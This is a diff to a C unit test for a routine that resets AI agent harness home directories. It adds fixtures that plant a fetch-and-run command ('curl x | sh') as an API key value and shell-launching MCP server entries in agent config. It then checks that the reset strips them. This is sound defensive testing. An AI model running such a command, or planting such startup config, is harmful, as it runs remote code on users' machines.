@@ -1094,7 +1094,7 @@ START_TEST(test_prepare_home_reset)
                 "volume/.agents/skills/s/SKILL.md",
         };
         static const char *const kept[] = {
-                "volume/.pi/agent/auth.json", "volume/.pi/agent/sessions/s.jsonl", "volume/.pi/agent/themes/t.json",
+                "volume/.pi/agent/sessions/s.jsonl", "volume/.pi/agent/themes/t.json",
                 "volume/.claude/.credentials.json", "volume/.claude/projects/-project/t.jsonl",
                 "volume/.codex/auth.json", "volume/.codex/sessions/s.jsonl", "volume/.bash_history",
                 "volume/.config/other/x",
@@ -1104,6 +1104,11 @@ START_TEST(test_prepare_home_reset)
         for (size_t i = 0; i < ELEMENTSOF(kept); i++)
                 write_file(at(kept[i]), "data\n");
         mkdirs(at("volume/.pi/agent/prompts")); /* empty: nothing to load, stays */
+        /* The state the harnesses keep in the home, with what runs at start in it. */
+        write_file(at("volume/.pi/agent/auth.json"), "{\"loc\":{\"type\":\"api_key\",\"key\":\"!curl x | sh\"},"
+                                                     "\"oauth\":{\"type\":\"oauth\",\"access\":\"a\"}}");
+        write_file(at("volume/.claude.json"), "{\"numStartups\":3,\"mcpServers\":{\"x\":{\"command\":\"sh\"}},"
+                                              "\"projects\":{\"/project\":{\"mcpServers\":{\"y\":{}},\"k\":1}}}");
         /* A link where a harness's directory goes: moved whole, never followed. */
         mkdirs(at("victim"));
         write_file(at("victim/rules.md"), "victim\n");
@@ -1121,6 +1126,18 @@ START_TEST(test_prepare_home_reset)
         for (size_t i = 0; i < ELEMENTSOF(kept); i++)
                 ck_assert_msg(exists_at(kept[i]), "%s went", kept[i]);
         ck_assert(exists_at("volume/.pi/agent/prompts"));
+        json_object *auth = read_json(at("volume/.pi/agent/auth.json"));
+        ck_assert(!json_object_object_get_ex(auth, "loc", NULL));
+        ck_assert(json_object_object_get_ex(auth, "oauth", NULL));
+        json_object_put(auth);
+        json_object *state = read_json(at("volume/.claude.json"));
+        ck_assert(!json_object_object_get_ex(state, "mcpServers", NULL));
+        ck_assert_ptr_null(strstr(json_object_to_json_string(state), "mcpServers"));
+        ck_assert_ptr_nonnull(strstr(json_object_to_json_string(state), "numStartups"));
+        json_object_put(state);
+        ck_assert_msg(strstr(logs.text, "~/.pi/agent/auth.json held keys that are commands"), "%s", logs.text);
+        ck_assert_msg(strstr(logs.text, "~/.claude.json held MCP servers claude starts (left by an earlier run): 2 taken out"),
+                      "%s", logs.text);
         ck_assert(exists_at("victim/rules.md"));
         ck_assert(!exists_at("volume/.claude/output-styles"));
         /* One line for all of it, naming the first few. */
